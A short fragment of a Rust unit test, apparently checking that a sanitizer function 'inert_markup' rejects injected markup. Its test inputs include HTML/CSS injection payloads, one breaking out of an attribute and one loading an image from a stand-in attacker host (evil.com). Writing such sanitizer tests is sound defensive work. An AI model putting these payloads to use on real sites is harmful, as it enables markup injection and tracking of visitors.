            "<style>body{background:url(//evil.com/x.png)}</style>",
            "\"><style>p{color:red}</style>",
        ] {
            assert!(!inert_markup(v), "{v:?}");
        }
    }
}
